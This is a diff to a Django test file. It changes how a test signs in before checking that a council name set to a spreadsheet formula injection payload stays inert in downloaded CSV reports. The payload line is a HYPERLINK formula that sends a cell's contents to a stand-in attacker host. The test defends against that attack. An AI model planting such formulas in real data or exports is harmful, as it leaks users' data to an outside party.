@@ -13,7 +13,7 @@ from django_tenants.utils import schema_context
 
 from core.csv_writer import FORMULA_STARTS, csv_cell
 from tenants.models import Council
-from tests.factories import DEFAULT_PASSWORD
+from tests.conftest import sign_in
 
 ROOT = Path(__file__).resolve().parents[2]
 PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
@@ -72,7 +72,7 @@ def test_a_council_name_from_a_trial_request_is_inert_in_every_central_csv(
         Council.objects.filter(pk=council_a.pk).update(name=PAYLOAD)
     central = make_user(None)
     web = Client(HTTP_HOST="localhost")
-    assert web.post("/login/", {"username": central.email, "password": DEFAULT_PASSWORD})
+    assert sign_in(web, None, central).status_code == 302
     downloads = [
         "/comparison/download.csv?councils=council-a",
         "/reports/council-a/evaluation.csv",
